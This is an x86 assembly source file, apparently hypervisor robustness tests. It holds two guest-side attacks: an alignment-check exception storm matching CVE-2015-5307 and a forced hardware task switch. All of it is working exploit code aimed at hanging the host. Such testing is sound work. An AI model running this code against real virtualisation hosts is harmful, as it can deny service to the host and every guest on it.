/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks that need 32-bit protected mode without paging. Neither comes back. */

#define CODE    0x08
#define DATA    0x10
#define CODE_3  0x1b
#define DATA_3  0x23
#define TASK_A  0x28
#define TASK_B  0x30

#define COM1    0x3f8

    .text
    .code64
    .global alignment_storm, task_switch

/*
 * Alignment checks at CPL 3 with a handler at CPL 3 and a stack that is not aligned: delivering #AC raises
 * the next one (CVE-2015-5307).
 */
alignment_storm:
    mov     $storm, %edi
    jmp     leave_long

/* A hardware task switch, which hypervisors must emulate or refuse. The new task says that it came to be. */
task_switch:
    mov     $switch, %edi

leave_long:                         /* goes on at edi */
    cli
    lgdt    pointer_64
    pushq   $CODE
    pushq   $1f
    lretq
    .code32
1:  mov     $DATA, %eax
    mov     %eax, %ds
    mov     %eax, %es
    mov     %eax, %ss
    mov     %cr0, %eax
    and     $0x7fffffff, %eax       /* PG */
    mov     %eax, %cr0
    mov     $0xc0000080, %ecx       /* EFER.LME */
    rdmsr
    and     $~0x100, %eax
    wrmsr
    xor     %eax, %eax
    mov     %eax, %cr4
    mov     $stack_top, %esp
    jmp     *%edi

storm:
    mov     $alignment_handler, %eax
    mov     %ax, gates + 17 * 8
    movw    $CODE_3, gates + 17 * 8 + 2
    movw    $0xee00, gates + 17 * 8 + 4     /* 32-bit interrupt gate, DPL 3 */
    shr     $16, %eax
    mov     %ax, gates + 17 * 8 + 6
    lidt    gates_pointer
    mov     %cr0, %eax
    or      $0x40000, %eax                  /* AM */
    mov     %eax, %cr0
    mov     $DATA_3, %eax
    mov     %eax, %ds
    mov     %eax, %es
    pushl   $DATA_3
    pushl   $(stack_top - 1025)
    pushl   $0x40002                        /* AC */
    pushl   $CODE_3
    pushl   $1f
    iretl
1:  mov     gates + 1, %eax                 /* not aligned */
    jmp     1b

alignment_handler:
    add     $4, %esp
    iretl

switch:
    mov     $task_a, %eax
    mov     %ax, gdt_32 + TASK_A + 2
    shr     $16, %eax
    mov     %al, gdt_32 + TASK_A + 4
    mov     $task_b, %eax
    mov     %ax, gdt_32 + TASK_B + 2
    shr     $16, %eax
    mov     %al, gdt_32 + TASK_B + 4
    mov     $TASK_A, %eax
    ltr     %ax
    ljmp    $TASK_B, $0
1:  hlt
    jmp     1b

other_task:
    mov     $switched, %esi
1:  lodsb
    test    %al, %al
    jz      3f
    mov     %al, %ah
    mov     $(COM1 + 5), %edx
2:  in      %dx, %al
    test    $0x20, %al
    jz      2b
    mov     %ah, %al
    mov     $COM1, %edx
    out     %al, %dx
    jmp     1b
3:  cli
    hlt
    jmp     3b

    .data
    .balign 16
gdt_32:
    .quad   0
    .quad   0x00cf9b000000ffff      /* CODE */
    .quad   0x00cf93000000ffff      /* DATA */
    .quad   0x00cffb000000ffff      /* CODE_3 */
    .quad   0x00cff3000000ffff      /* DATA_3 */
    .quad   0x0000890000000067      /* TASK_A: 104 bytes; the base is put in */
    .quad   0x0000890000000067      /* TASK_B */
gdt_32_end:
pointer_64:
    .word   gdt_32_end - gdt_32 - 1
    .quad   gdt_32
gates_pointer:
    .word   18 * 8 - 1
    .long   gates
switched:
    .asciz  "attack task-switch: it was carried out: held\r\n"

    .balign 16
task_b:
    .skip   32
    .long   other_task              /* eip */
    .long   2                       /* eflags */
    .skip   16
    .long   stack_top - 512         /* esp */
    .skip   12
    .long   DATA, CODE, DATA, DATA, 0, 0
    .long   0, 0x00680000
task_a:
    .skip   104

    .bss
    .balign 16
gates:
    .skip   18 * 8
    .skip   2048
stack_top:
